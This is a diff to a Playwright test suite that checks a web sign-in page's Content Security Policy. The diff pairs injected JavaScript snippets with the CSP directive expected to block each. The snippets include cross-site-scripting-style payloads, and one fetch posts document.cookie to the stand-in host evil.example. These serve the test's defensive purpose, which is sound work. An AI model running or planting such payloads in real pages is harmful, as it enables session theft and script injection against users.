@@ -13,47 +13,87 @@ from tests.browser.conftest import Join
 from tests.browser.person import Faults, Person
 
 INJECTED = {
-    "a script": """
+    "a script": (
+        "script-src-elem",
+        """
         const script = document.createElement("script");
         script.textContent = "window.injected = true";
         document.head.append(script);
     """,
-    "a script of another site": """
+    ),
+    "a script of another site": (
+        "script-src-elem",
+        """
         const script = document.createElement("script");
         script.src = "https://evil.example/x.js";
         document.head.append(script);
     """,
-    "a script in an attribute": """
+    ),
+    "a script in an attribute": (
+        "script-src-attr",
+        """
         document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.injected = true'>");
     """,
-    "text run as a program": """
+    ),
+    "text run as a program": (
+        "script-src",
+        """
         setTimeout("window.injected = true", 0);
     """,
-    "a style": """
+    ),
+    "a style": (
+        "style-src-elem",
+        """
         document.head.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>");
     """,
-    "a picture of another site": """
+    ),
+    "a picture of another site": (
+        "img-src",
+        """
         document.body.insertAdjacentHTML("beforeend", "<img src='https://evil.example/x.png'>");
     """,
-    "a frame": """
+    ),
+    "a frame": (
+        "frame-src",
+        """
         document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>");
     """,
-    "a call of another site": """
+    ),
+    "a call of another site": (
+        "connect-src",
+        """
         fetch("https://evil.example/", {method: "POST", body: document.cookie}).catch(() => 0);
     """,
-    "a live connection to another site": """
+    ),
+    "a live connection to another site": (
+        "connect-src",
+        """
         try { new WebSocket("wss://evil.example/"); } catch {}
     """,
-    "a form to another site": """
+    ),
+    "a form to another site": (
+        "form-action",
+        """
         document.body.insertAdjacentHTML("beforeend", "<form method=post action='https://evil.example/'>");
         document.body.lastChild.submit();
     """,
-    "another base for addresses": """
+    ),
+    "another base for addresses": (
+        "base-uri",
+        """
         document.head.insertAdjacentHTML("beforeend", "<base href='https://evil.example/'>");
     """,
+    ),
 }
 Visit = Callable[..., Person]
 POLICY = "Content Security Policy"
+# The directive that refuses what the program injects, or nothing after a long while.
+REFUSED = """() => new Promise((said) => {{
+    document.addEventListener(
+        "securitypolicyviolation", (event) => said(event.effectiveDirective), {{ once: true }});
+    setTimeout(said, 20_000);
+    {program}
+}})"""
 
 
 def test_policy_blocks_nothing_in_normal_use(join: Join, visit: Visit, faults: Faults):
@@ -76,13 +116,12 @@ def test_policy_blocks_nothing_in_normal_use(join: Join, visit: Visit, faults: F
     assert not faults.found
 
 
-@pytest.mark.parametrize("program", INJECTED.values(), ids=INJECTED)
-def test_injected_script_is_refused(program: str, visit: Visit, faults: Faults):
+def test_injected_script_is_refused(visit: Visit, faults: Faults):
     ada: Person = visit("Ada").goes_to("/sign-in")
     expect(ada.field("Email")).to_be_visible()
     faults.expected.append(POLICY)
-    with ada.page.expect_event("console", lambda said: POLICY in said.text):
-        ada.page.evaluate(f"() => {{ {program} }}")
+    for what, (directive, program) in INJECTED.items():
+        assert ada.page.evaluate(REFUSED.format(program=program)) == directive, what
     assert ada.page.evaluate("() => window.injected === undefined && document.baseURI === location.href")
     # Not with a locator: that would wait for a navigation that never happens.
     assert ada.page.evaluate("() => document.getElementById('email').checkVisibility()")
